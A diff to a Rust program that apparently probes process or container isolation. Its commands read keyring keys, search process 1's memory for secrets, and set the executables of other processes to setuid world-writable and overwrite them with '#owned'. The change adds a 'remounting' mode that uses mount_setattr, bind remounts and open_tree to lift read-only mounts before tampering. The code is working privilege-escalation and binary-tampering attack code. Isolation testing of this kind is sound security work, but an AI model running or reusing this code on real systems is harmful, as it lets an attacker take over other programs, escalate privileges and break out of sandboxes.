@@ -5,6 +5,7 @@
 //! | `keep-key TEXT PROGRAM ARG…` | executes the program with a key in its session keyring |
 //! | `find-key` | prints that key |
 //! | `take-files` | changes and writes the program file of every process that comes in |
+//! | `take-files remounting` | the same, and makes the mounts that they are on writable first |
 //! | `search-memory` | looks for the words `annotated` and `secret`, with `-` between, in process 1 |
 //! | `look-around PATH` | tells of processes that have more rights than this one, of `PATH` below their root, and of a secret in their environment |
 
@@ -31,7 +32,8 @@ fn main() -> ExitCode {
     let result = match args.as_slice() {
         ["keep-key", text, program, args @ ..] => keep_key(text, program, args),
         ["find-key"] => find_key(),
-        ["take-files"] => take_files(),
+        ["take-files"] => take_files(false),
+        ["take-files", "remounting"] => take_files(true),
         ["search-memory"] => search_memory(),
         ["look-around", path] => look_around(Path::new(path)),
         _ => Err(io::Error::from(io::ErrorKind::InvalidInput)),
@@ -99,7 +101,7 @@ fn others() -> Vec<u32> {
     numbers.filter(|&number| number != own).collect()
 }
 
-fn take_files() -> io::Result<()> {
+fn take_files(remounting: bool) -> io::Result<()> {
     let own = fs::metadata("/proc/self/exe")?;
     let mut taken: Vec<File> = Vec::new();
     let mut known = BTreeSet::from([(own.dev(), own.ino())]);
@@ -116,6 +118,9 @@ fn take_files() -> io::Result<()> {
             }
         }
         for file in &taken {
+            if remounting {
+                make_writable(file);
+            }
             let path = format!("/proc/self/fd/{}", file.as_raw_fd());
             let _ = fs::set_permissions(&path, Permissions::from_mode(0o4777));
             // While it runs, it cannot be written.
@@ -123,6 +128,39 @@ fn take_files() -> io::Result<()> {
                 let _ = file.write_all(b"#owned\n");
             }
         }
+    }
+}
+
+/// Tries to make the mount that a file was opened on writable, or a copy of it, and changes the mode
+/// of the file there.
+fn make_writable(file: &File) {
+    let attr = libc::mount_attr {
+        attr_set: 0,
+        attr_clr: libc::MOUNT_ATTR_RDONLY,
+        propagation: 0,
+        userns_fd: 0,
+    };
+    let set = |mount: c_long| {
+        let (attr, size) = (&raw const attr, size_of::<libc::mount_attr>());
+        let (number, empty) = (libc::SYS_mount_setattr, c"".as_ptr());
+        // SAFETY: the string and the structure live across the call.
+        unsafe { libc::syscall(number, mount, empty, libc::AT_EMPTY_PATH, attr, size) }
+    };
+    let number = file.as_raw_fd();
+    set(number.into());
+    let path = CString::new(format!("/proc/self/fd/{number}")).unwrap_or_default();
+    let nothing = std::ptr::null::<libc::c_char>();
+    for flags in [libc::MS_REMOUNT | libc::MS_BIND, libc::MS_REMOUNT] {
+        // SAFETY: the string lives across the call, which ignores what is null.
+        unsafe { libc::mount(nothing, path.as_ptr(), nothing, flags, nothing.cast()) };
+    }
+    let flags = libc::OPEN_TREE_CLONE | libc::AT_EMPTY_PATH as libc::c_uint;
+    // SAFETY: the string lives across the call.
+    let copy = unsafe { libc::syscall(libc::SYS_open_tree, number, c"".as_ptr(), flags) };
+    if copy >= 0 {
+        set(copy);
+        let path = format!("/proc/self/fd/{copy}");
+        let _ = fs::set_permissions(path, Permissions::from_mode(0o4777));
     }
 }
 
